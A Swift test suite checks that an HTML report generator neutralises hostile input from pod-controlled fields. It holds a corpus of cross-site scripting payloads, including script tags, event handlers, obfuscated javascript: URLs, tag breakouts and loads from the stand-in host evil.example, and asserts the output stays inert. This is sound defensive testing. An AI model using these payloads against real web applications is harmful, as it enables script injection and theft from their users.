import Foundation
import Testing
@testable import TracedeskClient
@testable import TracedeskCommandLine
@testable import TracedeskCompare
@testable import TracedeskDocuments
@testable import TracedeskHistory
@testable import TracedeskModel
@testable import TracedeskUseCases

/// Hostile text in every field a pod controls must reach the report as text and nothing else.
@Suite("A report is inert whatever the pod sends")
struct ReportInjectionTests {
    static let corpus = [
        "<script>alert('x')</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><circle r=1 /></svg>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\" jAvA\tsCrIpT:alert(1)\">tabbed</a>",
        "[md link](javascript:alert(1)) ![img](https://evil.example/pixel.png)",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<style>@import url(https://evil.example/x.css);</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "</pre></details></section><script>alert(2)</script>",
        "&lt;script&gt;alert(3)&lt;/script&gt; &#x3C;script&#x3E;",
        "<div style=\"background:url(https://evil.example/bg)\" onclick=\"x()\">styled</div>",
        "<!-- <script>alert(4)</script> -->",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "\"><script>alert(5)</script><p title=\"",
        "<form action=https://evil.example><input name=q></form>",
        "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/y>",
        "<base href=\"https://evil.example/\">",
        "<math><mi xlink:href=\"javascript:alert(6)\">x</mi></math>",
    ]

    /// `base` with every string value (except the run's own status) replaced by a corpus entry,
    /// and the output replaced by the whole corpus as Markdown.
    static func poisoned(_ value: JSONValue, key: String?, counter: inout Int) -> JSONValue {
        switch value {
        case .string:
            // A callback token is never recorded (its marker stands in wherever its value appears): kept as it is.
            if ["status", "callbackToken"].contains(key ?? "") { return value }
            // Embedded JSON (a node's input) gets hostile text inside it too.
            counter += 1
            return .string(corpus[counter % corpus.count])
        case .object(let members):
            var result: [String: JSONValue] = [:]
            for key in members.keys.sorted() { result[key] = poisoned(members[key]!, key: key, counter: &counter) }
            return .object(result)
        case .array(let items):
            return .array(items.map { poisoned($0, key: key, counter: &counter) })
        default:
            return value
        }
    }

    static func hostileBodies() throws -> [String] {
        try ["document-chunks-complete.json", "worker-card-error.json", "workflow-nested-complete.json", "approval-waiting.json"]
            .enumerated().map { index, name in
                var counter = index
                let text: String = try Fixtures.text(name)
                guard let value = JSONValue(parsing: text),
                      case .object(var members) = poisoned(value, key: nil, counter: &counter) else { throw TracedeskError.badInput(name) }
                members["jobId"] = .string("job-\(index)-<script>alert(0)</script>")
                members["output"] = .string(corpus.joined(separator: "\n\n"))
                return JSONValue.object(members).compactText
            }
    }

    @Test("no script, no handler, no javascript: URL, no external resource", arguments: 0..<4)
    func inert(index: Int) throws {
        let body = try Self.hostileBodies()[index]
        let fixture = try ReportFixture(bodies: [body], team: "<script>alert('team')</script>")
        let html = try fixture.html()
        let document = try HTMLDocument(parsing: html, origin: "report")

        #expect(!html.lowercased().contains("<script"))
        #expect(document.elements { ["script", "iframe", "object", "embed", "link", "img", "form", "input", "base", "math"].contains($0.name) }.isEmpty)
        #expect(document.elements(named: "meta").allSatisfy { $0.attribute("http-equiv") != "refresh" })
        #expect(document.elements(named: "style").count == 1, "only the report's own stylesheet")
        for element in document.elements(where: { _ in true }) {
            for (name, value) in element.attributes {
                #expect(!name.lowercased().hasPrefix("on"), "\(element.name) has \(name)")
                #expect(name != "src" && name != "srcdoc", "\(element.name) has \(name)")
                // The only styles are the step tree's bars: positions Tracedesk computes, in percent.
                if name == "style" {
                    #expect(element.classes.contains("bar") && value.wholeMatch(of: /(margin-left:[0-9]+\.[0-9]{2}%;)?width:[0-9]+\.[0-9]{2}%/) != nil,
                            "\(element.name) has style=\(value)")
                }
                let squeezed = value.lowercased().filter { !$0.isWhitespace && !$0.isNewline }
                #expect(!squeezed.contains("javascript:"), "\(element.name) \(name)=\(value)")
                if ["href", "action", "data", "xlink:href"].contains(name) {
                    #expect(!value.contains("evil.example") || element.name == "a", "\(element.name) \(name)=\(value)")
                }
            }
        }
        // What was refused is still there to read, as text.
        #expect(document.body.textContent.contains("<script>alert('x')</script>"))
        // And the bodies read back exactly.
        let embedded = try EmbeddedRun.read(Data(html.utf8), origin: "report")
        #expect(embedded.bodies.map(\.text) == [CallbackTokens.redacting(body).text], "as recorded: a callback token never is")
    }

    @Test("the comparison report of two hostile runs is as inert")
    func comparisonInert() throws {
        let bodies = try Self.hostileBodies()
        let store = try HistoryStore.inMemory()
        let summary = try Importer(store: store).importBodies(
            from: [CaptureSource.data(Data(bodies[0].utf8), origin: "a"), CaptureSource.data(Data(bodies[1].utf8), origin: "b")],
            team: "<img src=x onerror=alert(1)>")
        let a = try store.details(of: store.run(summary.runs[0].jobId)), b = try store.details(of: store.run(summary.runs[1].jobId))
        let html = TestReports.keep(try ComparisonReport(comparison: .of(a, b), runReportLinks: [a.run.jobId: "javascript:alert(1)"]).html(), as: "hostile-diff")
        let document = try HTMLDocument(parsing: html, origin: "comparison")
        #expect(!html.lowercased().contains("<script"))
        #expect(document.elements { ["script", "iframe", "object", "embed", "link", "img", "form", "base"].contains($0.name) }.isEmpty)
        for element in document.elements(where: { _ in true }) {
            for (name, value) in element.attributes {
                #expect(!name.lowercased().hasPrefix("on"), "\(element.name) has \(name)")
                if name == "href" { #expect(!value.lowercased().contains("evil.example") || element.name == "a") }
            }
        }
        // Every link says where it goes, even for runs that carried no message (axe's link-name).
        #expect(document.elements(named: "a").allSatisfy { !$0.textContent.trimmingCharacters(in: .whitespacesAndNewlines).isEmpty })
        // The link map is Tracedesk's own, but it goes through the same URL check as an answer's links.
        let scripted = document.elements { $0.attribute("href")?.lowercased().hasPrefix("javascript") == true }
        #expect(scripted.isEmpty)
    }
}
